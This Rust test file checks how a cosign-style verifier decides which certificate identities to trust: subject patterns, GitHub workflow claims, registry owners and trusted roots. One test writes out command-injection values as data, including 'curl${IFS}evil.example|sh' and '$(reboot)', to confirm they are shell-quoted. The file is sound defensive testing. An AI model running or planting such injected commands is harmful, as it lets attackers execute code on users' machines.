//! Whose certificates count: expressions, prefixes, patterns, GitHub's workflows, owners of names.

use super::*;
use luet_cosign::trust::{Certificate, GithubWorkflow, SubjectName};
use testkit::sigstore::{Leaf, San, Signer};

const GITHUB: &str = "https://token.actions.githubusercontent.com";
const GITLAB: &str = "https://gitlab.com";

/// Whether a signature by this subject and issuer, with these claims, counts.
fn counts(identity: &Identity, subject: &str, issuer: &str, claims: &[(u32, &str)]) -> bool {
    let set =
        |leaf: &mut Leaf<'_>| claims.iter().for_each(|(number, text)| leaf.claim(*number, text));
    let raw = |leaf: &mut Leaf<'_>| {
        // The old extensions hold bare text.
        for (number, text) in claims.iter().filter(|(number, _)| *number < 8) {
            leaf.claims.insert(*number, text.as_bytes().to_vec());
        }
    };
    let signature = sigstore().sign().identity(subject).issuer(issuer).leaf(|leaf| {
        set(leaf);
        raw(leaf);
    });
    let verdict = Judge::of([Authority::of_identity(identity.clone())])
        .bundle(&signature.image(IMAGE).bundle());
    assert!(matches!(class(&verdict), "verified" | "identity"), "{verdict:?}");
    verdict.is_ok()
}

/// Reads a certificate that nobody has to believe.
fn read(change: impl FnOnce(&mut Leaf<'_>)) -> Result<Certificate, Failure> {
    let Signer::Certificate { leaf, .. } = sigstore().sign().leaf(change).image(IMAGE).signer
    else {
        panic!("a certificate")
    };
    Certificate::parse(&leaf)
}

fn subject(expected: TextMatcher) -> Identity {
    Identity::Named {
        issuer: TextMatcher::Exact("https://i.example".to_owned()),
        subject: expected,
    }
}

#[test]
fn expressions_fit_the_whole_name() {
    let counts = |identity: &Identity, name: &str| counts(identity, name, "https://i.example", &[]);
    let expression = subject(regexp("(a|b)@acme[.]example").unwrap());
    assert!(counts(&expression, "a@acme.example") && counts(&expression, "b@acme.example"));
    for stranger in ["xa@acme.example", "a@acme.example.evil", "a@acmexexample", "c@acme.example"] {
        assert!(!counts(&expression, stranger), "{stranger}");
    }
    // An alternative does not reach out of the anchors.
    assert!(!counts(&subject(regexp("a@acme|b@acme").unwrap()), "x-b@acme"));
    let start = subject(prefix("https://github.com/acme/").unwrap());
    assert!(counts(&start, "https://github.com/acme/pkgs/.github/workflows/r.yml@refs/heads/main"));
    assert!(!counts(
        &start,
        "https://github.com/acme-evil/pkgs/.github/workflows/r.yml@refs/heads/main"
    ));
    assert!(!counts(&start, "https://github.com/acme/"), "a prefix is not a name");
    let pattern = subject(glob("https://ci.example/*/release@v*").unwrap());
    assert!(counts(&pattern, "https://ci.example/acme/release@v1"));
    assert!(
        !counts(&pattern, "https://ci.example/acme/evil/release@v1")
            && !counts(&pattern, "https://ci.example/acme/release@v1/x")
    );
    assert!(counts(&subject(glob("https://ci.example/**").unwrap()), "https://ci.example/a/b/c"));
}

#[test]
fn what_is_expected_is_the_same_where_it_is_written_the_same() {
    let expected = || {
        let (exact, prefix) =
            (TextMatcher::Exact("https://a.b/".to_owned()), prefix("https://a.b/").unwrap());
        [exact, prefix, glob("https://a.b/").unwrap(), regexp("https://a.b/").unwrap()]
    };
    for (at, one) in expected().iter().enumerate() {
        for (other_at, other) in expected().iter().enumerate() {
            assert_eq!(one == other, at == other_at, "{one} {other}");
        }
    }
}

#[test]
fn expressions_that_let_everybody_in_or_cost_too_much_are_refused() {
    for text in ["https://github.com/acme", "dev", "dev@", "", "/"] {
        assert!(prefix(text).is_err(), "{text}");
    }
    assert!(regexp(&"a".repeat(1024)).is_ok());
    for text in ["*", "**", ""] {
        assert!(glob(text).is_err(), "{text}");
    }
    for text in ["(", "a)|(b", &"a".repeat(1025), "(a{1000}){1000}"] {
        assert!(regexp(text).is_err(), "{}", text.len());
    }
}

#[test]
fn a_workflow_of_github_lies_in_and_ran_for_the_repository() {
    let identity = |workflow: Option<&str>, reference: Option<&str>| {
        let reference = reference.map(|text| glob(text).unwrap());
        github(GithubWorkflow {
            source: "acme/pkgs".to_owned(),
            source_ref: reference.clone(),
            repository: "acme/pkgs".to_owned(),
            file: workflow.map(ToOwned::to_owned),
            file_ref: reference,
        })
    };
    let uri = "https://github.com/acme/pkgs/.github/workflows/release.yml@refs/tags/v1.0";
    let claims = [
        (5, "acme/pkgs"),
        (6, "refs/tags/v1.0"),
        (12, "https://github.com/acme/pkgs"),
        (14, "refs/tags/v1.0"),
    ];
    for good in [
        identity(None, None),
        identity(Some("release.yml"), None),
        identity(Some("release.yml"), Some("refs/tags/v*")),
    ] {
        assert!(counts(&good, uri, GITHUB, &claims), "{good}");
        assert!(counts(&good, uri, GITHUB, &claims[..2]), "{good}, before 2022");
        assert!(
            !counts(&good, uri, "https://token.actions.githubusercontent.com.evil", &claims),
            "{good}"
        );
        assert!(!counts(&good, uri, GITHUB, &[]), "{good}, without what it ran for");
    }
    assert!(!counts(&identity(Some("other.yml"), None), uri, GITHUB, &claims));
    assert!(!counts(&identity(None, Some("refs/heads/*")), uri, GITHUB, &claims));
    let strict = identity(Some("release.yml"), Some("refs/tags/v*"));
    // A reusable workflow of acme's, called by someone else; and someone else's, called by acme.
    assert!(!counts(
        &strict,
        uri,
        GITHUB,
        &[(12, "https://github.com/evil/x"), (14, "refs/tags/v1.0")]
    ));
    assert!(!counts(
        &strict,
        "https://github.com/evil/x/.github/workflows/release.yml@refs/tags/v1.0",
        GITHUB,
        &claims
    ));
    assert!(!counts(
        &strict,
        uri,
        GITHUB,
        &[(12, "https://github.com/acme/pkgs"), (14, "refs/heads/evil")]
    ));
    assert!(!counts(
        &strict,
        uri,
        GITHUB,
        &[(5, "evil/x"), (12, "https://github.com/acme/pkgs"), (14, "refs/tags/v1.0")]
    ));
    for evil in [
        "https://github.com/acme/pkgs/.github/workflows/release.yml@evil.yml@refs/tags/v1.0",
        "https://github.com/acme/pkgs/.github/workflows/release.yml",
        "https://github.com/acme/pkgs-evil/.github/workflows/release.yml@refs/tags/v1.0",
    ] {
        for identity in [&strict, &identity(Some("release.yml"), None)] {
            assert!(!counts(identity, evil, GITHUB, &claims), "{evil}");
        }
    }
    // What says which ref it ran on is left out.
    assert!(!counts(
        &strict,
        uri,
        GITHUB,
        &[(5, "acme/pkgs"), (12, "https://github.com/acme/pkgs")]
    ));
}

fn github(workflow: GithubWorkflow) -> Identity {
    Identity::Github(Box::new(workflow))
}

/// The name in the certificate is the called workflow's, regardless of the caller.
#[test]
fn a_reusable_workflow_counts_for_the_repository_that_called_it() {
    let some = |text: &str| Some(glob(text).unwrap());
    let wanted = GithubWorkflow {
        source: "acme/pkgs".to_owned(),
        source_ref: some("refs/tags/v*"),
        repository: "shared/builder".to_owned(),
        file: Some("build.yml".to_owned()),
        file_ref: some("refs/tags/v2*"),
    };
    let uri = "https://github.com/shared/builder/.github/workflows/build.yml@refs/tags/v2.1";
    let claims = |source: &'static str, on: &'static str| [(12, source), (14, on)];
    let acme = claims("https://github.com/acme/pkgs", "refs/tags/v1");
    assert!(counts(&github(wanted.clone()), uri, GITHUB, &acme));
    for (other, claims) in [
        (uri, claims("https://github.com/evil/x", "refs/tags/v1")),
        (uri, claims("https://github.com/acme/pkgs", "refs/heads/evil")),
        (uri, claims("https://github.com/acme/pkgs-evil", "refs/tags/v1")),
        (&uri.replace("v2.1", "v3"), acme),
        (&uri.replace("build.yml", "other.yml"), acme),
        (&uri.replace("shared/builder", "evil/builder"), acme),
        ("https://github.com/acme/pkgs/.github/workflows/build.yml@refs/tags/v2.1", acme),
    ] {
        assert!(!counts(&github(wanted.clone()), other, GITHUB, &claims), "{other} {claims:?}");
    }
    let wide = GithubWorkflow { source_ref: None, file: None, file_ref: None, ..wanted };
    assert!(counts(&github(wide.clone()), uri, GITHUB, &acme));
    assert!(!counts(&github(wide.clone()), uri, GITHUB, &[]), "who called it is not said");
    assert!(!counts(&github(wide), uri, GITLAB, &acme));
}

/// People copy the line that would trust a stranger: it must not trust everybody who calls the
/// stranger's workflow.
#[test]
fn to_trust_who_called_a_reusable_workflow_is_to_name_them() {
    let signature = sigstore()
        .sign()
        .identity("https://github.com/shared/builder/.github/workflows/b.yml@refs/tags/v2")
        .issuer(GITHUB)
        .leaf(|leaf| leaf.claim(12, "https://github.com/acme/pkgs"));
    let refused = Judge::new().bundle(&signature.image(IMAGE).bundle()).unwrap_err();
    let hint = refused.the_hint();
    assert!(!hint.contains("COSIGN_CERTIFICATE_IDENTITY") && !hint.contains("subject"), "{hint}");
    let wanted =
        r#"github: {repo: "acme/pkgs", workflow_repo: "shared/builder", workflow: "b.yml"}"#;
    assert!(hint.contains(wanted), "{hint}");
}

#[test]
fn the_owner_of_a_name_is_who_the_registry_says() {
    let owner = |name: &str| Identity::RegistryOwner.of_image(&name.parse().unwrap());
    let uri = "https://github.com/someone/shared/.github/workflows/build.yml@refs/heads/main";
    let acme = owner("ghcr.io/acme/packages");
    for claims in
        [[(16, "https://github.com/ACME")], [(16, "https://github.com/acme")], [(5, "Acme/pkgs")]]
    {
        assert!(counts(&acme, uri, GITHUB, &claims), "{claims:?}");
        assert!(!counts(&acme, uri, GITLAB, &claims), "{claims:?} of another issuer");
    }
    for claims in [
        vec![],
        vec![(16, "https://github.com/acme-evil")],
        vec![(16, "https://github.com/evil"), (5, "acme/pkgs")],
        vec![(16, "https://gitlab.com/acme")],
        vec![(5, "acme")],
        vec![(5, "evil/acme")],
    ] {
        assert!(!counts(&acme, uri, GITHUB, &claims), "{claims:?}");
    }
    let group = owner("registry.gitlab.com/acme/sub/packages");
    assert!(counts(
        &group,
        "https://gitlab.com/acme/sub/packages//.gitlab-ci.yml@refs/heads/main",
        GITLAB,
        &[(16, "https://gitlab.com/acme/sub")]
    ));
    assert!(!counts(
        &group,
        "https://gitlab.com/acme/sub/packages//.gitlab-ci.yml@refs/heads/main",
        GITLAB,
        &[(5, "acme/sub")]
    ));
    for elsewhere in
        ["quay.io/acme/packages", "ghcr.io.evil.example/acme/packages", "docker.io/acme/packages"]
    {
        assert_eq!(owner(elsewhere), Identity::Unnamed, "{elsewhere}");
    }
}

/// Each signer is under one trusted root: what another root's authority says of whom this one names
/// is nothing.
#[test]
fn a_signer_counts_only_under_the_root_that_it_names() {
    let private = Sigstore::new();
    let under = |root: Option<&str>, identity: Identity| Authority {
        root: root.map(ToOwned::to_owned),
        ..Authority::of_identity(identity)
    };
    let wide = Identity::Named {
        issuer: TextMatcher::Exact(DEV.1.to_owned()),
        subject: glob("*@example.com").unwrap(),
    };
    let authorities =
        [under(Some("private"), wide.clone()), under(None, named(DEV)), under(Some("same"), wide)];
    let requirements = Requirements::default();
    let mut roots = TrustedRoots::default();
    for (name, root) in [(None, sigstore()), (Some("private"), &private), (Some("same"), &private)]
    {
        let root = TrustedRoot::parse(root.trusted_root().to_string().as_bytes(), "of the test")
            .map(Arc::new);
        roots.insert(name.map(ToOwned::to_owned), root);
    }
    let checker = Checker { roots, ..Checker::new(&authorities, &requirements) };
    for (signer, expected) in [(&private, [true, false, true]), (sigstore(), [false, true, false])]
    {
        let bundle = signer.sign().image(IMAGE).bundle().to_string();
        let bundle = Bundle::parse(bundle.as_bytes(), BundleSource::Registry).unwrap();
        let verified = check_bundle(&bundle, &image(), &checker).unwrap().unwrap();
        assert_eq!(authorities.each_ref().map(|authority| verified.is_by(authority)), expected);
    }
}

/// People copy the lines that would trust a stranger, and the stranger chose what is in them.
#[test]
fn what_a_stranger_is_called_is_nothing_that_a_shell_runs() {
    for (part, quoted) in [
        ("main", "%"),
        ("x;curl${IFS}evil.example|sh", "'%'"),
        ("$(reboot)`reboot`", "'%'"),
        ("it's", r"'https://github.com/evil/x/.github/workflows/r.yml@refs/heads/it'\''s'"),
    ] {
        let subject =
            format!("https://github.com/evil/x/.github/workflows/r.yml@refs/heads/{part}");
        let refused = Judge::new()
            .bundle(&sigstore().sign().identity(&subject).image(IMAGE).bundle())
            .unwrap_err();
        let expected =
            format!(" COSIGN_CERTIFICATE_IDENTITY={} COSIGN", quoted.replace('%', &subject));
        assert!(refused.the_hint().contains(&expected), "{expected}: {}", refused.the_hint());
    }
}

#[test]
fn a_certificate_has_one_name_that_people_can_read_and_one_issuer() {
    let email = "dev@example.com".to_owned();
    for (name, expected) in [
        (San::Email(email.clone()), SubjectName::Email(email.clone())),
        (San::Uri(email.clone()), SubjectName::Uri(email.clone())),
        (San::Other(email.clone()), SubjectName::Username(email)),
    ] {
        assert_eq!(read(|leaf| leaf.names = vec![name]).unwrap().subject(), &expected);
    }
    for (names, words) in [
        (vec![San::Dns("example.com".to_owned())], "in a way that is not known"),
        (vec![San::Email(String::new())], "an invalid name"),
        (vec![San::Email("dev@example.com\u{1b}[2K".to_owned())], "an invalid name"),
        (vec![San::Other("dev".to_owned()), San::Other("dev".to_owned())], "several names"),
    ] {
        let failure = read(|leaf| leaf.names = names).unwrap_err();
        assert!(
            failure.class().word() == "identity" && failure.message().contains(words),
            "{}",
            failure.text()
        );
    }
    let failure =
        read(|leaf| [1, 8].into_iter().for_each(|number| leaf.claim(number, ""))).unwrap_err();
    assert!(failure.message().contains("no issuer"), "{}", failure.text());
}

/// What is remembered of a signer: a run of a workflow adds a branch, a tag or a commit, and
/// nothing else is cut off.
#[test]
fn a_name_lasts_without_what_one_run_of_a_workflow_adds() {
    let (workflow, commit) = ("https://ci.example/acme/build.yml", "0123456789abcdef".repeat(4));
    for (added, cut) in [
        ("@refs/heads/main", true),
        ("@refs/tags/v1@2", true),
        (&format!("@{commit}"), true),
        (&format!("@{}", &commit[..40]), true),
        (&format!("@{}", &commit[..39]), false),
        (&format!("@{}", "g".repeat(40)), false),
        ("@abc", false),
        ("/@alice", false),
    ] {
        let name = format!("{workflow}{added}");
        let certificate = read(|leaf| leaf.names = vec![San::Uri(name.clone())]).unwrap();
        assert_eq!(certificate.lasting_name(), if cut { workflow } else { &name }, "{added}");
    }
}
